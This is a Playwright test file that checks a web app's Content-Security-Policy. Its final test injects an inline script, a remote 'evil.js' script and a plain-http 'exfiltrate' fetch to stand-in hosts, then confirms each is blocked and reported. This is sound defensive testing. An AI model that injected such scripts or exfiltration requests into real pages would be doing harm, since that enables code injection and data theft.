/**
 * The app's Content-Security-Policy (src/pwa/csp.ts): the built app loads and runs the example
 * under it without a single violation; with no 'unsafe-eval', a module installed through the
 * install card, a JavaScript step (QuickJS), a chart (Vega) and the parameter forms (schema
 * validation) all work; and what the policy forbids — a remote script, inline script, a
 * connection to a host that is not https — is blocked and reported on the console.
 */
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { NOTES_MODULE, writeModules } from '../test-fixtures/hostile/build';
import { guestDocument } from '../src/cli/hostile.testkit';
import { stepNode } from './editor.helpers';
import { fileSha256, installThroughCard } from './helpers/install';

test.use({ serviceWorkers: 'block', viewport: { width: 1400, height: 900 } });

/**
 * Messages that report a violation, collected from now on: the app's own report, Chromium's
 * ("… violates the following Content Security Policy directive …"), from the page and from its
 * workers (a worker gets the policy of its own response), and any uncaught EvalError.
 */
function violations(page: Page): string[] {
  const seen: string[] = [];
  const check = (text: string) => {
    if (/Content.Security.Policy|unsafe-eval|EvalError/.test(text)) seen.push(text);
  };
  page.on('console', (message) => check(message.text()));
  page.on('pageerror', (error) => check(`${error.name}: ${error.message}`));
  page.on('worker', (worker) => worker.on('console', (message) => check(message.text())));
  return seen;
}

const dir = mkdtempSync(path.join(tmpdir(), 'quiver-csp-'));
writeModules(dir, [NOTES_MODULE]);
const notes = ['wasm', 'json'].map((ext) => path.join(dir, `notes.${ext}`));

/** guestDocument's pipeline (csv → notes, csv → filter) plus a JavaScript step and a chart. */
function everythingDocument() {
  const doc = guestDocument('notes');
  const at = (x: number, y: number) => ({ x, y });
  const base = doc.steps[1]!;
  doc.steps.push(
    {
      ...base,
      id: 'js',
      moduleId: 'javascript',
      params: { mode: 'rows', code: 'row => ({ ...row, hot: row.temp_max > 25 })' },
      position: at(500, 400),
    },
    {
      ...base,
      id: 'chart',
      moduleId: 'chart',
      params: { mark: 'bar', x: 'weather' },
      position: at(500, 640),
    },
  );
  for (const id of ['js', 'chart']) {
    doc.edges.push({
      id: `e-${id}`,
      from: { step: 'csv', port: 'out' },
      to: { step: id, port: 'in' },
    });
  }
  return doc;
}

test('the built app runs its example under the policy, with no violation', async ({ page }) => {
  const seen = violations(page);
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', /default-src 'self'.*'wasm-unsafe-eval'/);
  await expect(meta).toHaveAttribute('content', /object-src 'none'/);
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(stepNode(page, 'sort').locator('.node-status.done')).toContainText('4 rows', {
    timeout: 60_000,
  });
  expect(seen).toEqual([]);
});

test('with no unsafe-eval: install through the card, run a module, JavaScript and a chart, edit params', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const seen = violations(page);
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).not.toContain("'unsafe-eval'");
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).not.toHaveAttribute('content', /'unsafe-eval'/);
  await installThroughCard(page, notes, fileSha256(notes[0]!));
  await page.getByRole('button', { name: 'Pipelines' }).click();
  await page.getByLabel('Pipeline file').setInputFiles({
    name: 'everything.quiver.json',
    mimeType: 'application/json',
    buffer: Buffer.from(JSON.stringify(everythingDocument())),
  });
  await expect(stepNode(page, 'chart')).toBeVisible();
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  for (const id of ['guest', 'warm', 'js']) {
    await expect(stepNode(page, id).locator('.node-status.done')).toContainText('rows', {
      timeout: 60_000,
    });
  }
  await expect(stepNode(page, 'chart').locator('.node-status.done')).toBeVisible();
  // The chart is drawn by Vega with its expressions interpreted.
  await stepNode(page, 'chart').click();
  const bars = page
    .getByRole('figure', { name: 'Chart' })
    .locator('path[aria-roledescription="bar"]');
  await expect(bars).toHaveCount(5, { timeout: 30_000 });
  // The form validates as you type: a bad value shows its message, a good one clears it.
  const bins = page.getByRole('spinbutton', { name: 'Histogram bins' });
  const form = page.getByRole('region', { name: 'Parameters' });
  await bins.fill('0');
  await expect(form).toContainText(/>= 1|at least 1/);
  await bins.fill('12');
  await expect(form).not.toContainText(/>= 1|at least 1/);
  // The view follows the chart above the output panel: deselect and fit to bring the rest back.
  await page.locator('.react-flow__pane').click({ position: { x: 5, y: 5 } });
  await page.getByRole('button', { name: 'Fit View' }).click();
  await stepNode(page, 'warm').click();
  await expect(page.getByRole('textbox', { name: /Expression/ })).toHaveValue('temp_max > 15');
  expect(seen).toEqual([]);
});

test('a remote script, inline script and a plain-http connection are blocked and reported', async ({
  page,
}) => {
  const seen = violations(page);
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const w = window as unknown as { injected?: boolean };
    const inline = document.createElement('script');
    inline.textContent = 'window.injected = true';
    document.head.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://cdn.example.com/evil.js';
    const remoteLoaded = new Promise<string>((resolve) => {
      remote.onload = () => resolve('loaded');
      remote.onerror = () => resolve('blocked');
    });
    document.head.append(remote);
    let fetched = 'fetched';
    try {
      await fetch('http://example.com/exfiltrate');
    } catch {
      fetched = 'blocked';
    }
    return { inline: w.injected === true, remote: await remoteLoaded, fetched };
  });
  expect(outcome).toEqual({ inline: false, remote: 'blocked', fetched: 'blocked' });
  await expect.poll(() => seen.join('\n')).toMatch(/blocked inline code \(script-src-elem\)/);
  // Reports come as events, in no fixed order: wait for each.
  await expect
    .poll(() => seen.join('\n'))
    .toContain('blocked https://cdn.example.com/evil.js (script-src-elem)');
  await expect
    .poll(() => seen.join('\n'))
    .toContain('blocked http://example.com/exfiltrate (connect-src)');
});
